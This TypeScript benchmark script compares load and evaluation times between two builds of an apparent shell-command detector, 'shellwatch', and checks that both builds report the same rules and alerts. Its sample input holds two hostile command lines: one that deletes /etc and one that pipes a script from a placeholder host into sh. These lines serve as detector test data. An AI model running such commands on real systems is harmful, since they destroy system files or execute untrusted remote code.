/**
 * A/B of start-up costs between two builds (issue 25: the pack's load and the README's
 * three-line `shellwatch eval`), in fresh processes, alternating, so both see the same
 * machine:
 *   node dist/bench/load-ab.js OLD_DIST NEW_DIST [rounds] [--rules DIR]
 * Each directory is a build output (main's dist/ copied aside with node_modules beside
 * it, and this branch's).
 *
 * Per round and build, in this order, each in a fresh process:
 * - _pack load_: `readRuleFolder(rules/)` then `loadCheckedRuleSet` (every regex checked,
 *   the set validated and compiled), as bench/load.bench.ts's "pack load" row: wall and
 *   CPU ms of the load alone, module loading left out.
 * - _eval example_: `node DIST/src/cli/main.js eval --rules rules --format lines` over
 *   the README's three lines: wall ms of the whole process (spawn to exit, as the bench
 *   row) and its CPU ms (user + system, every thread, reported by the process as it
 *   exits).
 * The builds' outputs must agree (the loaded rule ids; the alerts, timestamps aside):
 * exit 1 otherwise. Prints the medians and each round's figures.
 */
import { spawn } from 'node:child_process';
import { join, resolve } from 'node:path';
import { REPO_ROOT } from './corpus';
import { CPU_MARK } from './support/cpu-mark';

/** README's example: three lines through `shellwatch eval --format lines`. */
const EXAMPLE = 'ls -la\nrm -rf /etc\ncurl -s http://x.example/a.sh | sh\n';

/** The pack load child: loads `rulesDir` with the build in `dist`, prints JSON. */
const PACK_LOAD = `
const [dist, rulesDir] = process.argv.slice(1);
const { readRuleFolder } = require(dist + '/src/rules-store/rule-files.js');
const { loadCheckedRuleSet, ANALYSIS_CONCURRENCY } = require(dist + '/src/regex-check/load-checked-rule-set.js');
const { RegexChecker } = require(dist + '/src/regex-check/regex-checker.js');
(async () => {
  const cpu = process.cpuUsage();
  const started = performance.now();
  const folder = await readRuleFolder(rulesDir);
  const checker = new RegexChecker({ concurrency: ANALYSIS_CONCURRENCY });
  const result = await loadCheckedRuleSet(checker, folder.rules, folder.lists);
  const ms = performance.now() - started;
  const used = process.cpuUsage(cpu);
  checker.close();
  if (!result.ok) throw new Error(JSON.stringify(result.errors.slice(0, 3)));
  const ids = result.rules.map((r) => r.definition.id).join(',');
  process.stdout.write(JSON.stringify({ ms, cpuMs: (used.user + used.system) / 1000, ids }));
})().catch((e) => { console.error(e); process.exit(1); });
`;

interface Child {
  ms: number;
  stdout: string;
  stderr: string;
  code: number | null;
}

function run(args: readonly string[], input = ''): Promise<Child> {
  return new Promise((done, fail) => {
    const started = performance.now();
    const child = spawn(process.execPath, args, { cwd: REPO_ROOT });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('error', fail);
    child.on('exit', (code) => done({ ms: performance.now() - started, stdout, stderr, code }));
    child.stdin.end(input);
  });
}

interface Figures {
  packMs: number[];
  packCpuMs: number[];
  evalMs: number[];
  evalCpuMs: number[];
}

const median = (values: readonly number[]): number => {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)]!;
};

/** Alert lines with their clock readings (`@timestamp`, `event.created`) blanked. */
const timeless = (text: string): string =>
  text.replace(/"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z"/g, '"T"');

async function main(): Promise<void> {
  const args = process.argv.slice(2);
  const rulesAt = args.indexOf('--rules');
  const rulesDir = resolve(rulesAt >= 0 ? args[rulesAt + 1]! : join(REPO_ROOT, 'rules'));
  const positional = args.filter((a, i) => !a.startsWith('--') && args[i - 1] !== '--rules');
  const [oldDist, newDist, roundsText] = positional;
  if (oldDist === undefined || newDist === undefined) {
    console.error('usage: node dist/bench/load-ab.js OLD_DIST NEW_DIST [rounds] [--rules DIR]');
    process.exit(2);
  }
  const rounds = Number(roundsText ?? 7);
  const builds = [
    { name: 'old', dist: resolve(oldDist) },
    { name: 'new', dist: resolve(newDist) },
  ];
  const figures = new Map<string, Figures>(
    builds.map((b) => [b.name, { packMs: [], packCpuMs: [], evalMs: [], evalCpuMs: [] }]),
  );
  const seen = { ids: new Map<string, string>(), alerts: new Map<string, string>() };
  for (let round = 0; round < rounds; round++) {
    const order = round % 2 === 0 ? builds : [...builds].reverse();
    for (const build of order) {
      const f = figures.get(build.name)!;
      const pack = await run(['-e', PACK_LOAD, build.dist, rulesDir]);
      if (pack.code !== 0) throw new Error(`${build.name} pack load failed: ${pack.stderr}`);
      const loaded = JSON.parse(pack.stdout) as { ms: number; cpuMs: number; ids: string };
      f.packMs.push(loaded.ms);
      f.packCpuMs.push(loaded.cpuMs);
      seen.ids.set(build.name, loaded.ids);

      const cli = await run(
        [
          '-r',
          join(REPO_ROOT, 'dist/bench/support/report-cpu.js'),
          join(build.dist, 'src/cli/main.js'),
          'eval',
          '--rules',
          rulesDir,
          '--format',
          'lines',
        ],
        EXAMPLE,
      );
      const cpu = new RegExp(`${CPU_MARK}(\\d+)`).exec(cli.stderr);
      if (cli.code !== 0 || cpu === null)
        throw new Error(`${build.name} eval failed (exit ${cli.code}): ${cli.stderr}`);
      f.evalMs.push(cli.ms);
      f.evalCpuMs.push(Number(cpu[1]));
      seen.alerts.set(build.name, timeless(cli.stdout));
    }
    for (const kind of ['ids', 'alerts'] as const) {
      const [a, b] = builds.map((build) => seen[kind].get(build.name));
      if (a !== b) {
        console.error(`the builds differ in their ${kind === 'ids' ? 'loaded rules' : 'alerts'}`);
        process.exit(1);
      }
    }
    const line = builds
      .map((b) => {
        const f = figures.get(b.name)!;
        const at = f.packMs.length - 1;
        return `${b.name}: pack ${f.packMs[at]!.toFixed(0)} ms (CPU ${f.packCpuMs[at]!.toFixed(0)}), eval ${f.evalMs[at]!.toFixed(0)} ms (CPU ${f.evalCpuMs[at]})`;
      })
      .join(' | ');
    console.log(`round ${round + 1}: ${line}`);
  }
  for (const b of builds) {
    const f = figures.get(b.name)!;
    console.log(
      `${b.name} median: pack load ${median(f.packMs).toFixed(0)} ms (CPU ${median(f.packCpuMs).toFixed(0)}), eval example ${median(f.evalMs).toFixed(0)} ms (CPU ${median(f.evalCpuMs)})`,
    );
  }
}

void main().catch((error: unknown) => {
  console.error(error);
  process.exit(1);
});
